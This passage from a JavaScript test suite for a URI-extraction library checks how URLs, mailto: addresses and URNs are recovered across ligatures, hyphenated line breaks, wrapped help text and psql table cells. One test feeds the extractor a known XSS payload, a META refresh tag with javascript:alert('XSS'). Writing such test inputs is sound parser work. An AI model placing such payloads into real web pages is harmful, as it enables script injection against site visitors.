      "See https://example.org/wiki/conﬁg_eﬀect/ﬂow_ﬃx_ﬄ/ and urn:example:journal-ﬁlter:x.\n",
      ["https://example.org/wiki/config_effect/flow_ffix_ffl/", "urn:example:journal-filter:x"],
    ],
    [
      "The data set is published at\nhttps://www.results-appendix.ocean-training-standard.policy-\nﬁlter.com/~data/config_evaluation/zq003-statistics-edge/ and may be cited\n",
      [
        "https://www.results-appendix.ocean-training-standard.policy-filter.com/~data/config_evaluation/zq003-statistics-edge/",
      ],
    ],
    // a hyphen's break before a letter of a script written with spaces: an IRI's rest
    [
      "The code is public (see https://user-service-network.portal-census.gov/wiki/Москва-\nотчёт/zq246_manual). Of of were\n",
      ["https://user-service-network.portal-census.gov/wiki/Москва-отчёт/zq246_manual"],
    ],
    // … not of one written without: the line would be read to its end
    ["https://a.example/x-\n日本語の文章です。\n", ["https://a.example/x-"]],
  ])("%j", (text, want) => {
    expect(uris(text)).toEqual(want);
    expectRecordsAtEverySplit(text, 3);
  });

  test("a ligature's record keeps the text as it is in raw", () => {
    const f = one("see https://example.org/conﬁg ok");
    expect([f.uri, f.raw, f.end - f.start]).toEqual([
      "https://example.org/config",
      "https://example.org/conﬁg",
      Buffer.byteLength("https://example.org/conﬁg"),
    ]);
  });
});

describe("session 47: mailto: across a line break, a URN's NSS, a scheme X+Y split by a wrap", () => {
  test.each([
    // RFC 6068 §2: an address without its "@" is none, so the break is no URI's end
    [
      "The code is public (see mailto:survey.\nimage-zq259@assets.net?subject=user%20figure). Attempting\n",
      ["mailto:survey.image-zq259@assets.net?subject=user%20figure"],
    ],
    ["write to mailto:bob@\nexample.org today\n", ["mailto:bob@example.org"]],
    // a mailto: query broken after its "?" before the next field, as an http one
    [
      "available at mailto:open.edge-zq256@draft-assets-standard.io?\nsubject=portal%20journal&cc=table@setup.edu. The configurations\n",
      [
        "mailto:open.edge-zq256@draft-assets-standard.io?subject=portal%20journal&cc=table@setup.edu",
      ],
    ],
    // … not when the next line holds no address: the not-valid candidate stays as it is
    ["write to mailto:bob\nor call me today\n", []],
    // a URN's NSS goes on after a hyphen's break though its next piece opens with a registered
    // scheme's name ("notes"), but not into another URI
    [
      "  --proxy URL      Endpoint for uploads. (default: urn:example:reference-\n                   notes:zq071-user)\n",
      ["urn:example:reference-notes:zq071-user"],
    ],
    ["see urn:example:a-\nmailto:x@example.org\n", ["urn:example:a-", "mailto:x@example.org"]],
    // "git+" LF "ssh://…": X and Y registered; alone "ssh://…" was a valid, wrong URI
    [
      "  --homepage URL   Where the metadata lives.  [default: git+\n                   ssh://git@cache.example.org/data-en-us/zq173-user-log.git]\n",
      ["git+ssh://git@cache.example.org/data-en-us/zq173-user-log.git"],
    ],
    [
      "                  uploads. (default: g\n                  it+ssh://git@example.de/tracker-api/zq013.git)\n",
      ["git+ssh://git@example.de/tracker-api/zq013.git"],
    ],
    // (no registered X: the URI read from the line's start)
    ["we use a+\nssh://host/x and\n", ["ssh://host/x"]],
  ])("%j", (text, want) => {
    expect(uris(text)).toEqual(want);
    expectRecordsAtEverySplit(text, 3);
  });
});

describe("session 47: the review's cases (ligatures among other drops, an allow-list, page breaks, scripts)", () => {
  test.each([
    // a ligature's letters are no escape: the hard-wrap rules still read on after one
    [
      "see https://example.com/conﬁg/search?\nq=1 more\n",
      ["https://example.com/config/search?q=1"],
    ],
    [
      "…/~akpm/stuﬀ/ see http://www.example.org/~akpm/stuﬀ/release-notes.\ntxt and more\n",
      ["http://www.example.org/~akpm/stuff/release-notes.txt"],
    ],
    // … nor do they hide the cut reading at a hyphen's break
    ["See https://www.conﬁg-\nb% more\n", ["https://www.conﬁg"]],
    // after a page break, a page's number or running header is no URI's rest
    ["x https://a.example/a-\n\f2\n", ["https://a.example/a-"]],
    ["x https://a.example/a-\n\fChapter 2\n", ["https://a.example/a-"]],
    // Khmer, Myanmar and Tibetan put no spaces between words
    ["k https://a.example/a-\nភ្នំពេញជារាជធានី\n", ["https://a.example/a-"]],
    ["k https://a.example/a-\nမြန်မာနိုင်ငံ\n", ["https://a.example/a-"]],
  ])("%j", (text, want) => {
    expect(uris(text)).toEqual(want);
    expectRecordsAtEverySplit(text, 2);
  });

  test("an allow-list without the candidate's scheme still looks inside it", () => {
    const text = `<META CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`;
    expect(uris(text, { schemes: ["javascript"] })).toEqual(["javascript:alert('XSS')"]);
  });
});

describe("session 47: a ligature last before trailing punctuation", () => {
  test("is a letter: kept, and no crash", () => {
    // the trailing-punctuation check read the ligature's letter as a code point above
    // U+10FFFF and threw ("Invalid code point"): found by a fuzz run before the session's end
    expect(uris("see https://a.example/conﬁ. ok")).toEqual(["https://a.example/confi"]);
    expect(uris("(https://a.example/ﬆ) and https://a.example/x/ﬃ,")).toEqual([
      "https://a.example/st",
      "https://a.example/x/ffi",
    ]);
  });

  test("texts of ligatures, breaks and punctuation never throw", () => {
    const pieces = ["https://a.example/", "mailto:", "urn:a:", "ﬁ", "ﬀ", "ﬃ", "ﬆ", ".", ",", ")"];
    pieces.push("(", "\n", "-", "\f", " ", "x", "?", "=", "&", "\\", "%", "\u2010", "/", ":", "@");
    pieces.push('"', "<", ">", "[", "]", "{", "}", "*", "git+", "ssh://", "\u00ad", "é", "\n  ");
    let seed = 47;
    const next = () => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed / 0x7fffffff;
    };
    for (let run = 0; run < 3000; run++) {
      let text = "";
      for (let k = 1 + Math.floor(next() * 30); k > 0; k--)
        text += pieces[Math.floor(next() * pieces.length)];
      expect(() => extractText(text), JSON.stringify(text)).not.toThrow();
      expect(() => extractText(text, { fuzzy: true }), JSON.stringify(text)).not.toThrow();
    }
  });
});

describe("session 47: a long URL that a program's help cut at 40 columns (argparse's break_long_words)", () => {
  // python3 argparse with COLUMNS=40: the URL starts after prose, then each line is a piece
  // exactly as wide as the block, at the block's indentation
  const help =
    "usage: tool [-h] [--upload UPLOAD]\n            [--quiet]\n\nUploads the report to the server and\nprints where it lives.\n\noptions:\n  -h, --help      show this help\n                  message and exit\n  --upload UPLOAD\n                  Where uploads go\n                  (default: https://up\n                  loads.example.org/ap\n                  i/v2/reports/zq100-\n                  draft?format=json&ve\n                  rbose=1)\n  --quiet         Print nothing but\n                  errors and the\n                  summary line.\n";
  test("is read whole across its indented pieces", () => {
    expect(uris(help)).toEqual([
      "https://uploads.example.org/api/v2/reports/zq100-draft?format=json&verbose=1",
    ]);
    expectRecordsAtEverySplit(help, 7);
  });

  test("not when the next line is no piece as wide, nor without the same indentation", () => {
    const ind = " ".repeat(18);
    const head = `${ind}Where uploads go\n${ind}(default: https://up\n`;
    // (the control: a piece exactly as wide, 38 columns, at the same indentation)
    expect(uris(`${head}${ind}loads.example.org/ap\n`)).toEqual(["https://uploads.example.org/ap"]);
    // the line after is shorter: prose's next word
    expect(uris(`${head}${ind}loads.example.org\n`)).toEqual(["https://up"]);
    // … or as wide but indented otherwise
    expect(uris(`${head}  ${ind}loads.example.or\n`)).toEqual(["https://up"]);
  });
});

describe("session 47: the second review's cases (narrow word cuts, mailto:, a URN's NSS)", () => {
  test.each([
    // a heading's underline is no piece of the URL that ends the line above
    [
      `Project home: https://example.org/urisift/and/more/\n${"=".repeat(51)}\n`,
      ["https://example.org/urisift/and/more/"],
    ],
    // a host name and a path as wide, after a URI whose host is whole: a link of its own
    [
      "Homepage: https://example.org/project\nmirror.example.net/pub/project/abcdef\n",
      ["https://example.org/project"],
    ],
    // an address's local part that ends with a letter may end a word
    ["Contacts: mailto:webmaster\nadmin@example.org\n", []],
    // a URN's NSS does not go on into another URI
    ["see urn:example:a-\nurn:example:b\n", ["urn:example:a-", "urn:example:b"]],
    // after a page break, "Chapter_2" is a running header
    ["x https://a.example/a-\n\fChapter_2\n", ["https://a.example/a-"]],
  ])("%j", (text, want) => {
    expect(uris(text)).toEqual(want);
    expectRecordsAtEverySplit(text, 3);
  });
});

describe("session 48: left items of session 47's review", () => {
  test.each([
    // Korean puts spaces between words: a hyphen's break goes on into Hangul, as into Cyrillic
    [
      "see https://ko.wikipedia.org/wiki/서울-\n특별시 for more",
      ["https://ko.wikipedia.org/wiki/서울-특별시"],
    ],
    // … not into Chinese, whose line would be read to its end
    ["see https://zh.example/wiki/北京-\n市的网站很好\n", ["https://zh.example/wiki/北京-"]],
    // a "*" glued before a scheme masks a web scheme's letters only when the word spells one
    ["foo*myapp://x.example/a", ["myapp://x.example/a"]],
    ["ht*p://a.example/ and h*tps://b.example/", []],
  ])("%j", (text, want) => {
    expect(uris(text)).toEqual(want);
    expectRecordsAtEverySplit(text, 3);
  });
});

describe("session 48: psql's wrapped cells (the database-output hunt)", () => {
  test.each([
    // a URI that fills its cell, then the next row's own URI under it (sqlite's markdown)
    [
      "| 170  | https://example.org/index.html/page_2/api/export/ | 2024-06-15 | x |\n| 171  | urn:ietf:params:xml:ns:zq004r                     | 2020-10-15 |   |\n",
      ["https://example.org/index.html/page_2/api/export/", "urn:ietf:params:xml:ns:zq004r"],
    ],
    [
      "|170|https://example.org/index.html/pa|x|\n|   |mailto:a@example.org             | |\n",
      ["https://example.org/index.html/pa", "mailto:a@example.org"],
    ],
    // ascii linestyle, border 2: "." against the border on both sides of the break
    [
      "+------+-----------------------------------------+\n|    1 | https://sub-domain.example.com/ñandú/zq.|\n|      |.0001/東京                               |\n|    3 | http://[::1]:4051/wiki/zq0003?q=a:b&id=.|\n|      |.%E2%9C%93                               |\n",
      [
        "https://sub-domain.example.com/ñandú/zq0001/東京",
        "http://[::1]:4051/wiki/zq0003?q=a:b&id=%E2%9C%93",
      ],
    ],
    // border 1, the URL in the row's last cell: "." ends the line
    [
      "  id  |           note           |           url            \n------+--------------------------+--------------------------\n    1 | broken since 2023-04-01  | https://sub-domain.examp.\n      |                          |.le.com/ñandú/zq0001/東京\n",
      ["https://sub-domain.example.com/ñandú/zq0001/東京"],
    ],
    // the expanded display (\x), over three lines
    [
      "-[ RECORD 1 ]--------------------------\nid      | 1\nurl     | https://sub-domain.example.co.\n        |.m/ñandú/zq0001/東京/a/b/c/d/e.\n        |.f\ncreated | 2020-12-17\n",
      ["https://sub-domain.example.com/ñandú/zq0001/東京/a/b/c/d/ef"],
    ],
    // border 1: no line opens with "|"
    [
      "  id  |     name     |        url         |  created   \n------+--------------+--------------------+------------\n    1 | Ana María    | https://sub-domai.| 2020-12-17 \n      |              |.n.example.com/a/b | \n",
      ["https://sub-domain.example.com/a/b"],
    ],
    // CJK in a cell before: columns as a terminal shows them (psql, rich) …
    [
      "| 東京 |https://a.example/abcdefghi|\n|      |jklmnop/x                  |\n",
      ["https://a.example/abcdefghijklmnop/x"],
    ],
    // … or as characters (a table padded by character count)
    [
      "| 東京 |https://a.example/abcdefghi|\n|    |jklmnop/x                  |\n",
      ["https://a.example/abcdefghijklmnop/x"],
    ],
    // a middle cell wrapped twice
    [
      "|    1 | https://a.example/one/two.| x |\n|      |.three/four/five/six/seven.| x |\n|      |.eight                     |   |\n",
      ["https://a.example/one/twothree/four/five/six/seveneight"],
    ],
    // a sentence's "." before a table's next row is the URI's end
    ["url     | see https://a.example/x.\n        | and more\n", ["https://a.example/x"]],
    ["url     | https://a.example/x.\nnext    |.y is a field\n", ["https://a.example/x"]],
  ])("%j", (text, want) => {
    expect(uris(text)).toEqual(want);
    expectRecordsAtEverySplit(text, 3);
  });
});
